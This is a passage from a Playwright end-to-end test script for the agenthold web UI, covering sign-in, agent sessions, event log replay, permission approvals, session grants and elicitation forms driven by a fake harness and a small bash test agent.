#!/usr/bin/env node
// Real-browser checks of the UI against a running agenthold (the dev stack: `make up`), with
// playwright-core driving the system's Chromium (no browser download).
//
//   set -a; . .dev/env; set +a; node web/e2e/run.mjs [name-filter]
//
// Needs AGENTHOLD_URL and AGENTHOLD_TOKEN (a server admin's token: it makes the test users).
// CHROMIUM (default /usr/bin/chromium). Screenshots (light and dark) go to AGENTHOLD_UI_SHOTS
// (default .dev/ui-screenshots). Each check prints PASS/FAIL with its time; the exit status is the
// number of failures.
import { chromium } from 'playwright-core';
import { mkdirSync, readFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { randomBytes } from 'node:crypto';
import { spawn } from 'node:child_process';

const here = dirname(fileURLToPath(import.meta.url));
const URL_ = (process.env.AGENTHOLD_URL ?? 'http://127.0.0.1:7700').replace(/\/$/, '');
const TOKEN = process.env.AGENTHOLD_TOKEN;
const SHOTS = resolve(process.env.AGENTHOLD_UI_SHOTS ?? resolve(here, '../../.dev/ui-screenshots'));
const FILTER = process.argv[2] ?? '';
if (!TOKEN) {
  console.error('AGENTHOLD_TOKEN is not set (set -a; . .dev/env; set +a)');
  process.exit(2);
}
mkdirSync(SHOTS, { recursive: true });

const run = randomBytes(3).toString('hex');
const PASSWORD = `ui-check-password-${run}`;

async function rest(method, path, body, token = TOKEN) {
  const r = await fetch(`${URL_}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': 'application/json' } : {}) },
    body: body ? JSON.stringify(body) : undefined,
  });
  const text = await r.text();
  const data = text ? JSON.parse(text) : null;
  if (!r.ok) throw new Error(`${method} ${path}: ${r.status} ${text}`);
  return data;
}

async function makeUser(name) {
  const username = `${name}-${run}`;
  const user = await rest('POST', '/api/v1/users', { username, password: PASSWORD });
  return { username, id: user.id, workspace: user.personal_workspace_id };
}

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
  headless: true,
  args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-quic'],
});

/** A fresh browser context, signed in through the page; CSP violations and page errors fail the check. */
async function signedIn(user, { viewport = { width: 1280, height: 860 } } = {}) {
  const context = await browser.newContext({ baseURL: URL_, viewport });
  const page = await context.newPage();
  page.problems = [];
  page.on('console', (m) => {
    if (m.type() === 'error' && /Content Security Policy|Refused to/i.test(m.text())) page.problems.push(m.text());
  });
  page.on('pageerror', (e) => page.problems.push(`page error: ${e.message}`));
  await page.goto('/');
  await page.waitForURL(/\/login/);
  await page.getByLabel('Username').fill(user.username);
  await page.getByLabel('Password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('heading', { name: 'Agents' }).waitFor();
  return { context, page };
}

/** The API from inside the page, as the page calls it (cookie + the CSRF token from /me). */
async function pageApi(page, method, path, body) {
  return page.evaluate(
    async ({ method, path, body }) => {
      const me = await (await fetch('/api/v1/me')).json();
      const r = await fetch(path, {
        method,
        headers: { 'content-type': 'application/json', 'x-csrf-token': me.csrf_token ?? '' },
        body: body === undefined ? undefined : JSON.stringify(body),
      });
      const text = await r.text();
      if (!r.ok) throw new Error(`${method} ${path}: ${r.status} ${text}`);
      return text ? JSON.parse(text) : null;
    },
    { method, path, body },
  );
}

async function events(page, sessionId) {
  const out = [];
  let after = 0;
  for (;;) {
    const r = await pageApi(page, 'GET', `/api/v1/sessions/${sessionId}/events?after=${after}&limit=1000`);
    out.push(...r.events);
    if (!r.events.length) return out;
    after = r.next_after;
  }
}

/** Controls without an accessible name on the page (every page is checked when it is photographed). */
async function unlabelled(page) {
  return page.evaluate(() =>
    [...document.querySelectorAll('button, input, select, textarea, a[href], summary')]
      .filter((el) => {
        if (el.closest('.xterm')) return false;
        const name =
          el.getAttribute('aria-label') ||
          (el.getAttribute('aria-labelledby') && document.getElementById(el.getAttribute('aria-labelledby'))?.textContent) ||
          el.closest('label')?.textContent ||
          (el.id && document.querySelector(`label[for="${el.id}"]`)?.textContent) ||
          (['INPUT', 'SELECT', 'TEXTAREA'].includes(el.tagName) ? '' : el.textContent);
        return !name || !name.trim();
      })
      .map((el) => el.outerHTML.slice(0, 120)),
  );
}

async function shot(page, name) {
  const missing = await unlabelled(page);
  if (missing.length) throw new Error(`${name}: controls without a name:\n${missing.join('\n')}`);
  for (const scheme of ['light', 'dark']) {
    await page.emulateMedia({ colorScheme: scheme });
    await page.waitForTimeout(100);
    await page.screenshot({ path: `${SHOTS}/${name}-${scheme}.png`, fullPage: false });
  }
  await page.emulateMedia({ colorScheme: 'light' });
}

async function newAgentWithSession(page, name, extra = {}) {
  const agent = await pageApi(page, 'POST', '/api/v1/agents', { name, harness: 'fake', ...extra });
  const session = await pageApi(page, 'POST', `/api/v1/agents/${agent.id}/sessions`, {});
  return { agent, session };
}

async function prompt(page, text) {
  const box = page.getByRole('textbox', { name: /Prompt|Reply/ });
  await box.fill(text);
  await box.press('Enter');
}

function assert(cond, message) {
  if (!cond) throw new Error(message);
}

const checks = [];
const check = (name, fn) => checks.push({ name, fn });
const state = {};

check('sign in, the agents list, sign out and in again keeps working after a reload', async () => {
  const { context, page } = await signedIn(state.alice);
  // After a reload the page has only the cookie: /me gives the CSRF token back, so changes work.
  await page.reload();
  await page.getByRole('heading', { name: 'Agents' }).waitFor();
  const t = await pageApi(page, 'POST', '/api/v1/tokens', { name: 'after-reload' });
  assert(t.token.startsWith('ah_'), 'a change after a reload works');
  const stored = await page.evaluate(() => JSON.stringify(localStorage) + document.cookie);
  assert(!stored.includes('ah_') && !stored.includes('agenthold_session'), `no token in storage or a readable cookie: ${stored}`);
  await page.locator('.menu summary').click();
  await page.getByRole('button', { name: 'Sign out' }).click();
  await page.waitForURL(/\/login/);
  await shot(page, 'login');
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});

check('create an agent from the agents page', async () => {
  const { context, page } = await signedIn(state.alice);
  await page.getByRole('link', { name: 'Create an agent' }).click();
  await page.getByLabel('Name', { exact: true }).fill('ui-made');
  await page.getByLabel('Harness').selectOption('fake');
  await page.getByRole('button', { name: 'Create', exact: true }).click();
  await page.getByRole('heading', { name: /ui-made/ }).waitFor();
  await page.getByText('Overview').waitFor();
  await shot(page, 'agent-overview');
  await page.goto('/');
  await page.locator('tr[data-agent="ui-made"]').waitFor();
  await shot(page, 'agents');
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});

check('prompt a fake agent and watch the turn render', async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent } = await newAgentWithSession(page, 'turns');
  await page.goto(`/agents/${agent.id}`);
  await page.getByRole('button', { name: 'New session' }).click();
  await page.waitForURL(/\/sessions\//);
  await page.locator('[data-status="live"]').waitFor();
  const script = [
    'think Let me look around first.',
    'plan Inspect | Edit | Test',
    'tool read Reading Cargo.toml',
    'write src/answer.txt 42\\n',
    'write src/answer.txt 41\\n42\\n43\\n',
    "run printf '\\033[31mred\\033[0m plain'",
    'text **All done.** See [the docs](https://example.com/docs).',
    'usage 100 20',
  ].join('\n');
  await prompt(page, script);
  await page.locator('.item-turn_end').waitFor({ timeout: 60000 });
  const endText = await page.locator('.item-turn_end').innerText();
  assert(/100 in · 20 out/.test(endText), `turn_end shows tokens: ${endText}`);
  assert(/\d+\.\d s/.test(endText), `turn_end shows the duration: ${endText}`);
  assert((await page.locator('.item-tool').count()) === 4, 'four tool cards (read, two edits, run), one per call');
  const who = await page.locator('.bubble.prompt .who').first().innerText();
  assert(/from user [0-9a-f]{8}/.test(who), `the prompt says who sent it: ${who}`);
  assert((await page.locator('.diff .line.add').count()) >= 1, 'the edit shows a diff');
  await page.getByRole('button', { name: 'side by side' }).click();
  assert((await page.locator('.diff.split .split-row').count()) >= 3, 'the side-by-side view');
  const red = await page.locator('pre.ansi span', { hasText: 'red' }).first().evaluate((e) => getComputedStyle(e).color);
  assert(red !== '' && red !== getComputedStyleFallback(), `ANSI red is coloured: ${red}`);
  assert((await page.locator('.markdown strong', { hasText: 'All done.' }).count()) === 1, 'markdown renders');
  assert((await page.locator('details.thought').getAttribute('open')) === null, 'the thought is collapsed');
  assert(/Plan 0\/3/.test(await page.locator('.plan summary').innerText()), 'the plan panel');
  assert(await page.getByRole('textbox', { name: 'Prompt' }).isEnabled(), 'the box is enabled after the turn');
  await shot(page, 'session');
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});
function getComputedStyleFallback() {
  return 'rgb(29, 29, 31)';
}

check('the prompt box waits while a turn runs; Cancel ends it', async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(page, 'cancel');
  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await page.locator('[data-status="live"]').waitFor();
  await prompt(page, 'text working\nsleep 20000\ntext never');
  await page.locator('[data-running="yes"]').waitFor();
  const box = page.getByRole('textbox', { name: 'Prompt' });
  assert(await box.isDisabled(), 'the box is disabled while the turn runs');
  assert(/A turn is running/.test(await page.locator('#composer-hint').innerText()), 'and says why');
  await page.getByRole('button', { name: 'Cancel' }).click();
  await page.locator('.turn-end.cancelled').waitFor({ timeout: 30000 });
  assert(await box.isEnabled(), 'enabled again');
  await context.close();
});

check('reload mid-turn during a fast flood: every event rendered once, no gap, no duplicate', async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(page, 'flood');
  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await page.locator('[data-status="live"]').waitFor();
  const N = 3000;
  await prompt(page, `text start\nflood ${N} 600\ntext end`);
  // Far enough in that the reloaded page opens at the tail of the log (it reads 400 events).
  await page.waitForFunction(() => Number(document.querySelector('.log')?.dataset.applied ?? 0) > 900, null, { timeout: 60000 });
  const before = Number(await page.locator('.log').getAttribute('data-applied'));
  const reads = [];
  page.on('request', (r) => {
    const m = /\/events\?after=(\d+)/.exec(r.url());
    if (m) reads.push(Number(m[1]));
  });
  await page.reload();
  await page.locator('.log').waitFor();
  // And once more, with a dropped connection: the page goes offline and back.
  await page.waitForTimeout(700);
  await context.setOffline(true);
  await page.waitForTimeout(500);
  await context.setOffline(false);
  await page.locator('.item-turn_end').waitFor({ timeout: 90000 });
  const log = await events(page, session.id);
  const last = log[log.length - 1].seq;
  await page.waitForFunction((n) => Number(document.querySelector('.log')?.dataset.cursor) >= n, last);
  // The page opened at the tail: scrolling up reads the rest.
  assert(reads.length && reads[0] > 0, `the reloaded page opened at the tail of the log (read after ${reads[0]})`);
  for (let i = 0; i < 20 && (await page.locator('button.older').count()); i++) {
    await page.locator('.log').evaluate((el) => (el.scrollTop = 0));
    await page.waitForTimeout(200);
  }
  assert((await page.locator('button.older').count()) === 0, 'scrolling up read the whole log');
  const cursor = Number(await page.locator('.log').getAttribute('data-cursor'));
  const applied = Number(await page.locator('.log').getAttribute('data-applied'));
  assert(cursor === last && applied === last, `applied ${applied} events up to ${cursor}; the log has ${last}`);
  const text = await page.locator('.item-message').allInnerTexts();
  const nums = [...text.join('\n').matchAll(/flood (\d+)/g)].map((m) => Number(m[1]));
  const chunks = log.filter((e) => e.type === 'update' && /^flood \d+$/.test(e.payload?.content?.text ?? '')).length;
  assert(chunks === N, `the log has ${chunks} flood chunks`);
  assert(nums.length === N, `rendered ${nums.length} flood chunks, the log has ${N}`);
  assert(nums.every((n, i) => n === i + 1), 'in order, none twice, none missing');
  const prompts = log.filter((e) => e.type === 'prompt').length;
  const ends = log.filter((e) => e.type === 'turn_end').length;
  assert((await page.locator('.item-prompt').count()) === prompts, 'one prompt item per prompt event');
  assert((await page.locator('.item-turn_end').count()) === ends, 'one turn_end item per turn_end event');
  state.flood = { before, last };
  await context.close();
});

// A real harness's session (scripts/e2e/harness.sh with E2E_UI=1 names it: it made the agent in
// the admin's workspace, whose viewer the check's user becomes): rendered from what Claude Code,
// Codex or OpenCode really sent. Only when asked to.
const REAL = process.env.AGENTHOLD_UI_REAL_SESSION; // <agent id>/<session id>
if (REAL)
  check('a real harness session renders: tool cards, the diff or result, answered questions, thoughts and terminal colours', async () => {
    const [agentId, sessionId] = REAL.split('/');
    const agent = await rest('GET', `/api/v1/agents/${agentId}`);
    await rest('PUT', `/api/v1/workspaces/${agent.workspace_id}/members/${state.alice.id}`, { role: 'viewer' });
    const stored = await rest('GET', `/api/v1/sessions/${sessionId}/events?after=0&limit=1000`);
    const count = (type, pred = () => true) => stored.events.filter((e) => e.type === type && pred(e.payload)).length;
    // A tall window: every item of the session is on screen (the list renders only what is).
    const { context, page } = await signedIn(state.alice, { viewport: { width: 1280, height: 6000 } });
    await page.goto(`/agents/${agentId}/sessions/${sessionId}`);
    await page.locator('[data-status="live"]').waitFor();
    await page.waitForFunction((n) => Number(document.querySelector('.log')?.dataset.applied ?? 0) === n, stored.events.length, { timeout: 30000 });
    assert((await page.locator('.item-prompt').count()) === count('prompt'), 'one prompt item per prompt');
    assert((await page.locator('.item-turn_end').count()) === count('turn_end'), 'one turn_end per turn');
    const callIds = new Set(stored.events.filter((e) => e.type === 'update' && /^tool_call/.test(e.payload.sessionUpdate)).map((e) => e.payload.toolCallId));
    assert((await page.locator('.item-tool').count()) === callIds.size, `one card per tool call (${callIds.size})`);
    const write = page.locator('.item-tool', { hasText: 'hello.txt' }).first();
    await write.waitFor();
    const shown = await write.innerText();
    assert(/\+hi|Wrote file successfully/.test(shown), `the write shows its diff or its result: ${shown}`);
    assert((await page.locator('.question.resolved').count()) === count('permission'), 'every question shows answered');
    assert(/^Approved by the autonomous posture$/.test(await page.locator('.question.resolved .resolution').first().innerText()), 'who answered');
    if (count('update', (p) => p.sessionUpdate === 'agent_thought_chunk')) {
      const thought = page.locator('details.thought').first();
      assert((await thought.getAttribute('open')) === null, 'a thought is collapsed');
      await thought.locator('summary').click();
      assert(/Which file/.test(await thought.innerText()), 'and opens on a click');
    }
    // Terminal output (Claude Code's terminal_output_delta, OpenCode's text, Codex's delta): never
    // an escape code on screen, and colours where the harness's output had them.
    const outputs = await page.locator('.item-tool pre.ansi').allInnerTexts();
    assert(outputs.every((o) => !o.includes('\u001b')), 'no escape codes shown');
    if (stored.events.some((e) => JSON.stringify(e.payload).includes('\\u001b[32mgreen'))) {
      const green = page.locator('.item-tool pre.ansi span', { hasText: 'green' }).first();
      const colour = await green.evaluate((e) => getComputedStyle(e).color);
      assert(colour !== getComputedStyleFallback(), `terminal output keeps its colour: ${colour}`);
      assert(outputs.some((o) => /^green plain\nhello\.txt/.test(o)), `the output as printed: ${JSON.stringify(outputs)}`);
    }
    const failed = count('update', (p) => p.sessionUpdate === 'tool_call_update' && p.status === 'failed');
    assert((await page.locator('.item-tool .badge.status.danger', { hasText: 'failed' }).count()) === failed, 'failed calls say so');
    await page.setViewportSize({ width: 1280, height: 860 });
    await shot(page, `session-${agent.harness}`);
    assert(page.problems.length === 0, page.problems.join('\n'));
    await context.close();
  });

// Restarts the dev stack's server (scripts/dev/server.sh start), so only when asked to.
if (process.env.AGENTHOLD_UI_RESTART === '1')
  check('kill and restart the server mid-turn with the page open: it continues without a gap or a duplicate', async () => {
    const { context, page } = await signedIn(state.alice);
    const { agent, session } = await newAgentWithSession(page, 'restart');
    await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
    await page.locator('[data-status="live"]').waitFor();
    await prompt(page, 'flood 1500 150\ntext after the flood');
    await page.waitForFunction(() => Number(document.querySelector('.log')?.dataset.applied ?? 0) > 150, null, { timeout: 60000 });
    // SIGKILL: no graceful shutdown, the socket just drops.
    const pid = Number(readFileSync(resolve(here, '../../.dev/server.pid'), 'utf8').trim());
    process.kill(pid, 'SIGKILL');
    const restarted = new Promise((ok, fail) => {
      const p = spawn('bash', [resolve(here, '../../scripts/dev/server.sh'), 'start'], { stdio: ['ignore', 'ignore', 'inherit'] });
      p.on('exit', (code) => (code === 0 ? ok() : fail(new Error(`server.sh start: ${code}`))));
    });
    await page.locator('[data-status="reconnecting"]').waitFor({ timeout: 30000 });
    await restarted;
    await page.locator('[data-status="live"]').waitFor({ timeout: 60000 });
    // The turn ends one way or another (the server may resume it or report it lost).
    await page.waitForFunction(() => document.querySelector('[data-running]')?.getAttribute('data-running') === 'no', null, { timeout: 120000 });
    await page.waitForTimeout(1000);
    const log = await events(page, session.id);
    const last = log[log.length - 1].seq;
    await page.waitForFunction((n) => Number(document.querySelector('.log')?.dataset.cursor) >= n, last, { timeout: 30000 });
    const applied = Number(await page.locator('.log').getAttribute('data-applied'));
    assert(applied === last, `applied ${applied} events; the log has ${last}`);
    const text = (await page.locator('.item-message').allInnerTexts()).join('\n');
    const nums = [...text.matchAll(/flood (\d+)/g)].map((m) => Number(m[1]));
    const inLog = log.filter((e) => e.type === 'update' && /^flood \d+$/.test(e.payload?.content?.text ?? '')).length;
    assert(nums.length === inLog, `rendered ${nums.length} flood chunks, the log has ${inLog}`);
    assert(nums.every((n, i) => i === 0 || n > nums[i - 1]), 'in order, none twice');
    await context.close();
  });

check('the log sticks to the bottom only while the reader is there', async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(page, 'scroller');
  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await page.locator('[data-status="live"]').waitFor();
  const script = Array.from({ length: 120 }, (_, i) => `tool read Reading file ${i}\nsleep 40`).join('\n');
  await prompt(page, script);
  await page.waitForFunction(() => Number(document.querySelector('.log')?.dataset.items ?? 0) > 40, null, { timeout: 60000 });
  const distance = () => page.locator('.log').evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight);
  assert((await distance()) < 60, 'at the bottom while items come in');
  // The reader scrolls up: the log stays where it is while items keep coming. A slow machine
  // (the CPU throttled 6×) widens the moment between the scroll and its event, when an arriving
  // item could pull the log back down.
  const cdp = await context.newCDPSession(page);
  await cdp.send('Emulation.setCPUThrottlingRate', { rate: 6 });
  await page.locator('.log').evaluate((el) => (el.scrollTop = 200));
  await page.waitForTimeout(300);
  const top = await page.locator('.log').evaluate((el) => el.scrollTop);
  await page.waitForTimeout(1200);
  const later = await page.locator('.log').evaluate((el) => el.scrollTop);
  assert(Math.abs(later - top) < 4 && top < 1000, `the log did not move: 200 → ${top} → ${later}`);
  await cdp.send('Emulation.setCPUThrottlingRate', { rate: 1 });
  await page.getByRole('button', { name: /Jump to latest/ }).click();
  await page.locator('.item-turn_end').waitFor({ timeout: 60000 });
  await page.waitForTimeout(300);
  assert((await distance()) < 60, 'back at the bottom, it follows to the end');
  const inDom = await page.locator('.log .item').count();
  const items = Number(await page.locator('.log').getAttribute('data-items'));
  assert(inDom < items, `virtualized: ${inDom} of ${items} items in the page`);
  await context.close();
});

check('a permission question: inline and from the inbox, the first answer wins across two browsers', async () => {
  const { context: a, page: pa } = await signedIn(state.alice);
  const { context: b, page: pb } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(pa, 'asker', { posture: 'approval' });
  await pa.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await pa.locator('[data-status="live"]').waitFor();
  await pb.goto('/approvals');
  await pb.locator('[data-status="live"]').waitFor();
  await prompt(pa, 'ask execute rm -rf build/\nask edit src/main.rs\ntext finished');

  // 1. Both browsers answer the first question at once: exactly one answer is stored.
  const inline = pa.locator('.question.pending .answer[data-decision="allow"]');
  const inbox = pb.locator('.inbox .answer[data-decision="deny"]');
  await inline.waitFor({ timeout: 60000 });
  await inbox.waitFor();
  await pa.waitForFunction(() => !document.querySelector('.question.pending .answer')?.disabled);
  await pb.waitForFunction(() => !document.querySelector('.inbox .answer')?.disabled);
  await shot(pb, 'approvals');
  await shot(pa, 'session-question');
  assert(/reply answers it/.test(await pa.locator('#composer-hint').innerText()), 'the box says a reply answers the question');
  // Pinned to the first question's buttons: a locator would re-resolve after the other browser's
  // answer landed and click the second question's button when it appears.
  const [inlineButton, inboxButton] = [await inline.elementHandle(), await inbox.elementHandle()];
  const answer = (button) => button.click({ timeout: 5000 }).catch(() => undefined);
  await Promise.all([answer(inlineButton), answer(inboxButton)]);
  await pa.locator('.question.resolved').first().waitFor({ timeout: 30000 });
  // 2. The second question, answered from the inbox only; the session shows who answered.
  const second = pb.locator('.inbox .answer[data-decision="allow"]');
  await second.waitFor({ timeout: 60000 });
  await pb.waitForFunction(() => !document.querySelector('.inbox .answer')?.disabled);
  // Exactly agenthold's three answers, though the fake harness offers its "always" options too.
  const labels = await pb.locator('.inbox li').first().locator('.answers button').allInnerTexts();
  assert(JSON.stringify(labels) === JSON.stringify(['Approve', 'Approve for this session', 'Deny']), `the inbox's answers: ${labels}`);
  assert((await pb.locator('.inbox li').first().locator('.offered').innerText()).includes('Always allow'), "the harness's options are named, not buttons");
  await second.click();
  await pa.locator('.item-turn_end').waitFor({ timeout: 60000 });
  await pb.locator('.empty-inbox').waitFor();
  const log = await events(pa, session.id);
  const asked = log.filter((e) => e.type === 'permission');
  const resolved = log.filter((e) => e.type === 'permission_resolved');
  assert(asked.length === 2 && resolved.length === 2, `two questions, two answers: ${asked.length}/${resolved.length}`);
  assert(new Set(resolved.map((e) => e.payload.permission_id)).size === 2, 'one answer per question');
  const resolutions = await pa.locator('.question.resolved .resolution').allInnerTexts();
  assert(resolutions.length === 2 && resolutions.every((t) => /^(Approved|Denied) by you$/.test(t)), `who answered: ${resolutions}`);
  assert((await pa.locator('.item-message', { hasText: 'permission: allow-once' }).count()) >= 1, 'the harness got the answer');
  await a.close();
  await b.close();
});

check('a reply answers a waiting question', async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(page, 'replier', { posture: 'approval' });
  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await page.locator('[data-status="live"]').waitFor();
  await prompt(page, 'ask execute make deploy');
  await page.locator('.question.pending').waitFor({ timeout: 60000 });
  await page.getByRole('textbox', { name: 'Reply to the question' }).waitFor();
  await prompt(page, 'yes');
  await page.locator('.question.resolved').waitFor({ timeout: 30000 });
  assert(/^Approved by you, in a reply$/.test(await page.locator('.question.resolved .resolution').innerText()), 'answered by a reply');
  await page.locator('.item-turn_end').waitFor({ timeout: 30000 });
  await context.close();
});

check("the harness's own question (an elicitation) is answered inline", async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(page, 'elicit');
  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await page.locator('[data-status="live"]').waitFor();
  await prompt(page, 'elicit What is your name?');
  await page.locator('.question.pending', { hasText: 'What is your name?' }).waitFor({ timeout: 60000 });
  await page.locator('.elicit [data-field="answer"] input').fill('Ada');
  await page.getByRole('button', { name: 'Answer', exact: true }).click();
  await page.locator('.item-message', { hasText: 'elicitation: accept' }).waitFor({ timeout: 30000 });
  assert(/Ada/.test(await page.locator('.item-message', { hasText: 'elicitation: accept' }).innerText()), 'the harness got the answer');
  await page.locator('.question.resolved').waitFor();
  await context.close();
});

check('Approve for this session: a session grant answers the same call, listed on the session page, revoked; a viewer sees it without Revoke', async () => {
  const vera = await makeUser('vera');
  // A tall window: every item of the session is on screen (the list renders only what is).
  const { context, page } = await signedIn(state.alice, { viewport: { width: 1280, height: 1800 } });
  const ws = await pageApi(page, 'POST', '/api/v1/workspaces', { name: `grants-${run}` });
  await pageApi(page, 'PUT', `/api/v1/workspaces/${ws.id}/members/${vera.id}`, { role: 'viewer' });
  const { agent, session } = await newAgentWithSession(page, 'granter', { posture: 'approval', workspace_id: ws.id });
  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await page.locator('[data-status="live"]').waitFor();
  const turnEnds = async (n) => {
    for (const deadline = Date.now() + 60000; Date.now() < deadline; await page.waitForTimeout(250)) {
      const log = await events(page, session.id);
      if (log.filter((e) => e.type === 'turn_end').length >= n) {
        await page.waitForFunction((seq) => Number(document.querySelector('.log')?.dataset.cursor) >= seq, log[log.length - 1].seq);
        return;
      }
    }
    throw new Error(`turn ${n} did not end`);
  };
  // 1. The question: Approve for this session.
  await prompt(page, 'ask execute make deploy\ntext first done');
  const forSession = page.locator('.question.pending .answer[data-decision="allow_for_session"]');
  await forSession.waitFor({ timeout: 60000 });
  await page.waitForFunction(() => !document.querySelector('.question.pending .answer')?.disabled);
  await forSession.click();
  await turnEnds(1);
  const first = page.locator('.question.resolved .resolution').first();
  assert((await first.innerText()) === 'Approved for this session by you', `the answer reads: ${await first.innerText()}`);
  assert((await first.getAttribute('data-decision')) === 'allow_for_session', 'data-decision');
  assert((await page.locator('.item-message', { hasText: 'permission: allow-once' }).count()) === 1, 'the harness got a once-answer');
  // The session's grants panel lists it.
  const panel = page.locator('details.grants');
  await panel.waitFor({ timeout: 30000 });
  assert(/Approved for this session \(1\)/.test(await panel.locator('summary').innerText()), 'one grant');
  // 2. The same call again: the grant answers it, nobody is asked.
  await prompt(page, 'ask execute make deploy\ntext second done');
  await turnEnds(2);
  const resolutions = await page.locator('.question.resolved .resolution').allInnerTexts();
  assert(resolutions[1] === 'Approved by a session grant', `the second call: ${resolutions}`);
  assert((await page.locator('.question.pending').count()) === 0, 'no question waits');
  // A viewer sees the grant but cannot revoke it.
  const { context: vc, page: vp } = await signedIn(vera);
  await vp.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await vp.locator('details.grants').waitFor({ timeout: 30000 });
  await vp.locator('details.grants summary').click();
  await vp.locator('details.grants li[data-grant]').waitFor();
  assert((await vp.locator('details.grants button').count()) === 0, 'no Revoke for a viewer');
  await shot(vp, 'session-grants-viewer');
  await vc.close();
  // 3. Revoke: the panel goes, and the same call asks again.
  await panel.locator('summary').click();
  const row = panel.locator('li[data-grant]');
  assert(/exec/.test(await row.innerText()) && /make deploy/.test(await row.innerText()), `the grant says what it allows: ${await row.innerText()}`);
  await shot(page, 'session-grants');
  await row.getByRole('button', { name: 'Revoke' }).click();
  await panel.waitFor({ state: 'detached', timeout: 30000 });
  const left = await pageApi(page, 'GET', `/api/v1/sessions/${session.id}/grants`);
  assert(left.grants.every((g) => g.revoked_at), `no active grant: ${JSON.stringify(left.grants)}`);
  await prompt(page, 'ask execute make deploy\ntext third done');
  const deny = page.locator('.question.pending .answer[data-decision="deny"]');
  await deny.waitFor({ timeout: 60000 });
  await page.waitForFunction(() => !document.querySelector('.question.pending .answer')?.disabled);
  await deny.click();
  await turnEnds(3);
  const last = (await page.locator('.question.resolved .resolution').allInnerTexts()).pop();
  assert(last === 'Denied by you', `the third call: ${last}`);
  assert((await page.locator('.item-message', { hasText: 'permission: reject-once' }).count()) === 1, 'the harness got a once-refusal');
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});

// A harness whose question offers choices (`enum`, `oneOf`), a checkbox and a number. The fake
// harness asks only a one-field text question, so this is a tiny ACP agent in bash (the `command`
// harness, in the test image): it asks on every prompt and says what came back.
const CHOICES_AGENT = String.raw`
sid=choices-1; pid=
out() { printf '%s\n' "$1"; }
while IFS= read -r line; do
  id=$(printf '%s' "$line" | grep -o '"id":\("[^"]*"\|[0-9][0-9]*\)' | head -n 1 | cut -d: -f2-)
  case "$line" in
    *'"method":"initialize"'*) out '{"jsonrpc":"2.0","id":'"$id"',"result":{"protocolVersion":1,"agentCapabilities":{"loadSession":false},"authMethods":[]}}' ;;
    *'"method":"session/new"'*) out '{"jsonrpc":"2.0","id":'"$id"',"result":{"sessionId":"'"$sid"'"}}' ;;
    *'"method":"session/prompt"'*)
      pid=$id
      out '{"jsonrpc":"2.0","id":"q1","method":"elicitation/create","params":{"sessionId":"'"$sid"'","mode":"form","message":"Which release should I ship?","requestedSchema":{"type":"object","properties":{"release":{"type":"string","title":"Release","enum":["stable","beta"]},"channel":{"type":"string","title":"Channel","oneOf":[{"const":"ch-1","title":"Channel one"},{"const":"ch-2","title":"Channel two"}]},"notify":{"type":"boolean","title":"Tell the team"},"copies":{"type":"integer","title":"Copies","minimum":1,"maximum":5}},"required":["release","channel"]}}}' ;;
    *'"id":"q1"'*)
      action=$(printf '%s' "$line" | grep -o '"action":"[a-z]*"' | head -n 1 | cut -d'"' -f4)
      content=$(printf '%s' "$line" | grep -o '"content":{[^}]*}' | head -n 1 | cut -c11- | tr -d '"{}')
      out '{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"'"$sid"'","update":{"sessionUpdate":"agent_message_chunk","content":{"type":"text","text":"elicitation: '"$action $content"'"}}}}'
      out '{"jsonrpc":"2.0","id":'"$pid"',"result":{"stopReason":"end_turn"}}' ;;
    *'"method":'*) [ -n "$id" ] && out '{"jsonrpc":"2.0","id":'"$id"',"error":{"code":-32601,"message":"not here"}}' ;;
  esac
done`;

check("the agent's own question with choices (an elicitation with enum and oneOf) is answered by choosing", async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(page, 'chooser', { harness: 'command', command: ['bash', '-c', CHOICES_AGENT] });
  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await page.locator('[data-status="live"]').waitFor();
  await prompt(page, 'ship it');
  const form = page.locator('.question.pending .elicit');
  await form.waitFor({ timeout: 60000 });
  // Choices, not text boxes: radio buttons with the titles.
  const release = form.locator('[data-field="release"]');
  assert((await release.locator('input[type="radio"]').count()) === 2, 'release: two radio buttons');
  assert((await form.locator('[data-field="channel"] label').allInnerTexts()).map((t) => t.trim()).join('|') === 'Channel one|Channel two', 'channel: the oneOf titles');
  assert((await form.locator('[data-field="release"] input[type="text"], [data-field="channel"] input[type="text"]').count()) === 0, 'no free text for a choice');
  assert((await form.locator('[data-field="notify"] input[type="checkbox"]').count()) === 1, 'a checkbox');
  assert((await form.locator('[data-field="copies"] input[type="number"]').count()) === 1, 'a number box');
  await shot(page, 'session-elicitation-choices');
  // Nothing chosen: it says so and does not post.
  await form.getByRole('button', { name: 'Answer', exact: true }).click();
